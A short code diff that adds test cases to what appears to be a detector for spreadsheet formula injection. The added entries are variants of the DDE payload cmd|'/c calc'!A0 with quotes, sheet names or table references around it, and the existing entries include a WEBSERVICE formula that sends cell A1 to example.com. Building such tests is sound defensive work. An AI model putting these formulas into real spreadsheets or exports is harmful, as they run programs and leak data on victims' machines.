@@ -116,6 +116,9 @@ from_parts(
 for _name, _formula in {
     "link-escaped": b"&#91;1]Sheet1!A1",
     "program": b"cmd|'/c calc'!A0",
+    "program-in-quotes": b"'cmd'|'/c calc'!A0",
+    "program-after-a-tab": b"'a&quot;b'!A1&amp;cmd|'/c calc'!A0&amp;&quot;",
+    "program-after-a-column": b"Table1['#a]&amp;cmd|'/c calc'!A0",
     "program-escaped": b"Excel&#124;book!R1C1",
     "web": b'_xlfn.WEBSERVICE("https://example.com/"&amp;A1)',
     "server": b'RTD("a.b",,"c")',
